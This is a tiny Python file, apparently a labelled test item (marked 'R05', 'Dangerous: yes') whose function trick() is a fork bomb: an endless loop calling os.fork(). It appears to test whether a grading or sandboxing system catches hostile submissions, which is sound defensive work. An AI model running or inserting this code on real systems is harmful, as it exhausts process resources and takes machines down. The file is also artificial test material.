"""R05: a bomb of processes.

Exercise: 00
Base: lazy
Verdicts: exception
Dangerous: yes
"""

import os


def trick(node):
    while True:
        os.fork()
